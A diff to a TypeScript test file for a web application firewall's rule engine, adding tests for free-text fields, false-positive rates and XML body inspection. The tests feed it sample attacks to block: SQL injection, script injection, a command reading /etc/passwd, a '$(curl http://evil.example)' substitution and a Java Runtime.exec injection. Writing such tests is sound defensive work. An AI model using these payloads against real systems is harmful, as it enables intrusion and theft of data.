@@ -1,11 +1,12 @@
 import assert from 'node:assert/strict'
 import { existsSync } from 'node:fs'
 import { test } from 'node:test'
-import { evaluate, prepare } from '../../../src/filters/waf/engine.ts'
+import { evaluate } from '../../../src/filters/waf/engine.ts'
 import { loadRules } from '../../../src/filters/waf/load.ts'
 import { exclusions } from '../../../src/filters/waf/phase.ts'
 import { requestData } from '../../../src/filters/waf/request-data.ts'
 import { wafRouteSchema } from '../../../src/filters/waf/schema.ts'
+import { specialize } from '../../../src/filters/waf/specialize.ts'
 import { type CorpusRequest, corpus } from './corpus.ts'
 import { crsDir } from './modsecurity.ts'
 import { payloads } from './payloads.ts'
@@ -20,7 +21,10 @@ const tx = new Map([
   ['inbound_anomaly_score_threshold', '5'],
   ['allowed_methods', config.allowed_methods.join(' ')],
 ])
-const start = program && prepare(program, tx, exclusions(config))
+const plan = program && specialize(program, tx, exclusions(config))
+// Stock CRS behaviour on prose: the free-text default turned off.
+const stockConfig = wafRouteSchema.parse({ free_text_fields: [] })
+const stockPlan = program && specialize(program, tx, exclusions(stockConfig))
 
 const browser: [string, string][] = [
   ['Host', 'shop.example.com'],
@@ -29,7 +33,13 @@ const browser: [string, string][] = [
 ]
 
 /** Whether Portico's defaults at paranoia level 1 refuse the request. */
-function blocks(method: string, target: string, headers: [string, string][] = browser, body?: string): boolean {
+function blocks(
+  method: string,
+  target: string,
+  headers: [string, string][] = browser,
+  body?: string,
+  stock = false,
+): boolean {
   const extra: [string, string][] = body === undefined ? [] : [['Content-Length', String(Buffer.byteLength(body))]]
   const data = requestData({
     method,
@@ -39,7 +49,8 @@ function blocks(method: string, target: string, headers: [string, string][] = br
     remoteAddr: '192.0.2.1',
     body: body === undefined ? undefined : Buffer.from(body),
   })
-  return evaluate(program!, data, start!, exclusions(config)).deny
+  const [p, c] = stock ? [stockPlan!, stockConfig] : [plan!, config]
+  return evaluate(p.program, data, p.start, exclusions(c)).deny
 }
 const q = (v: string): string => `/search?q=${encodeURIComponent(v)}`
 const json = (value: unknown): [[string, string][], string] => [
@@ -148,7 +159,79 @@ test('block rate per family and false positives on 500 ordinary requests, with t
   for (const [family, [blocked, all]] of rates)
     t.diagnostic(`${family}: ${blocked}/${all} refused (${((blocked / all) * 100).toFixed(1)}%)`)
   const [fp, ordinary] = rates.get('ordinary')!
-  assert.ok(fp / ordinary < 0.05, `false positives ${fp}/${ordinary}`)
+  assert.ok(fp / ordinary < 0.02, `false positives ${fp}/${ordinary}`)
   assert.ok(rates.get('sqli')![0] / rates.get('sqli')![1] > 0.9)
   assert.ok(rates.get('xss')![0] / rates.get('xss')![1] > 0.95)
+})
+
+test('prose in a free-text field passes by default and is refused with the free-text default off; attacks in those fields are still refused', {
+  skip,
+}, () => {
+  const prose = json({ message: 'Union members get 10% off; select items only', name: "Seán O'Brien" })
+  assert.ok(!blocks('POST', '/api/orders', ...prose), 'prose refused with the defaults')
+  assert.ok(blocks('POST', '/api/orders', ...prose, true), 'prose passed with free_text_fields: []')
+  const form = 'name=Ann&message=Union%20members%20get%2010%25%20off%3B%20select%20items%20only'
+  const formHeaders: [string, string][] = [...browser, ['Content-Type', 'application/x-www-form-urlencoded']]
+  assert.ok(!blocks('POST', '/contact', formHeaders, form))
+  // The same sentence in a field not named for free text is judged as stock CRS does.
+  assert.ok(blocks('POST', '/api/orders', ...json({ sku: 'Union members get 10% off; select items only' })))
+  for (const attack of [
+    "1' UNION SELECT password FROM users --",
+    '1; select * from users',
+    '<script>alert(1)</script>',
+    ';cat /etc/passwd',
+    '$(curl http://evil.example)',
+  ])
+    assert.ok(blocks('POST', '/api/comments', ...json({ comment: attack, rating: 4 })), attack)
+})
+
+test('block rates per family are the same with the free-text default on and off, at paranoia levels 1 and 2', {
+  skip,
+}, () => {
+  for (const level of [1, 2]) {
+    const levelTx = new Map([...tx, ['paranoia_level', String(level)], ['executing_paranoia_level', String(level)]])
+    const on = wafRouteSchema.parse({ paranoia_level: level })
+    const off = wafRouteSchema.parse({ paranoia_level: level, free_text_fields: [] })
+    const plans = [on, off].map((c) => ({ plan: specialize(program!, levelTx, exclusions(c)), ex: exclusions(c) }))
+    for (const r of corpus(0, true)) {
+      const [a, b] = plans.map(({ plan: p, ex }) => {
+        const data = requestData({
+          method: r.method,
+          target: r.target,
+          protocol: 'HTTP/1.1',
+          headers: r.headers,
+          remoteAddr: '192.0.2.1',
+          body: r.body === undefined ? undefined : Buffer.from(r.body),
+        })
+        return evaluate(p.program, data, p.start, ex).deny
+      })
+      assert.equal(a, b, `PL${level} ${r.family} ${r.method} ${r.target} ${r.body ?? ''}`)
+    }
+  }
+})
+
+test('XML bodies are read as ModSecurity reads them: attacks in element text (and, for the rules that read them, attributes) are refused, an ordinary document passes', {
+  skip,
+}, () => {
+  const xml = (body: string): [[string, string][], string] => [[...browser, ['Content-Type', 'application/xml']], body]
+  const soap = (body: string): [[string, string][], string] => [
+    [...browser, ['Content-Type', 'application/soap+xml; charset=utf-8']],
+    body,
+  ]
+  assert.ok(blocks('POST', '/api/orders', ...xml("<order><note>1' UNION SELECT password FROM users --</note></order>")))
+  assert.ok(blocks('POST', '/api/orders', ...xml('<order><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>')))
+  // Attribute values are read by the rules that name XML://@* (the Java injection ones in CRS 3.3).
+  assert.ok(
+    blocks('POST', '/api/orders', ...xml('<order note="java.lang.Runtime.getRuntime().exec(&quot;id&quot;)"/>')),
+  )
+  assert.ok(
+    blocks('POST', '/ws', ...soap('<Envelope><Body><q><![CDATA[<script>alert(1)</script>]]></q></Body></Envelope>')),
+  )
+  assert.ok(
+    !blocks(
+      'POST',
+      '/api/orders',
+      ...xml(`<?xml version="1.0"?><order id="7"><name>Seán O'Brien</name><item sku="A-1">mug</item></order>`),
+    ),
+  )
 })
